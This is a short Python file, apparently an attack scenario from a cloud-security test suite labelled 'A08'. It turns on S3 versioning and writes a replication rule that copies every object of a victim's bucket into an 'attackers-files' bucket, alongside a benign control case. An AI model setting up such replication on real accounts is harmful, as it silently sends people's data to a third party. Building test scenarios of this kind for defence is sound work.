"""A08: have every object of an own bucket replicated into a bucket of somebody else."""


def attack(hands):
    replicates(hands, "kept-files", "attackers-files", hands.plain())


def by_grant(hands):
    """From a bucket that it may set up, but not to there."""
    replicates(hands, "granted-files", "attackers-files", hands.plain())


def twin(hands):
    replicates(hands, "granted-files", "kept-copies", hands.plain())


def replicates(hands, bucket, there, text):
    """Set it up, under a name that whoever may read the settings can read."""
    hands.call("s3", "PutBucketVersioning", Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    rule = {
        "ID": text,
        "Status": "Enabled",
        "Priority": 1,
        "Filter": {"Prefix": ""},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": f"arn:aws:s3:::{there}"},
    }
    role = f"arn:aws:iam::{hands.account}:role/replicates"
    setting = {"Role": role, "Rules": [rule]}
    hands.call("s3", "PutBucketReplication", Bucket=bucket, ReplicationConfiguration=setting)
